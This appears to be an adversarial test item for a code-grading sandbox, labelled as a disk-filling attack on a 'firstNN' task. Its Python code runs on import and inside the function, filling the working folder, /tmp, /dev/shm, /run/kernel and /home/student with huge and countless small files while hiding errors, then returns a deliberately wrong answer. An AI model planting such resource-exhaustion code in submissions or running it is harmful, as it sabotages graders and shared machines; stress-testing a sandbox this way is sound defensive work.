# base: reference
# attacks: firstNN
# class: filling every disk the kernel can write: its folder, /tmp, /dev/shm, the run folder,
#   with big files and with many small ones
# %% firstNN
import os


def _fill():
    for folder in (".", "/tmp", "/dev/shm", "/run/kernel", "/home/student"):
        try:
            with open(os.path.join(folder, "big"), "wb") as handle:
                for _ in range(10_000):
                    handle.write(b"\0" * (1 << 20))
        except Exception:
            pass
        try:
            for index in range(200_000):
                open(os.path.join(folder, f"small{index}"), "w").close()
        except Exception:
            pass


_fill()


def firstNN(data, epochs):
    _fill()
    return None  # wrong
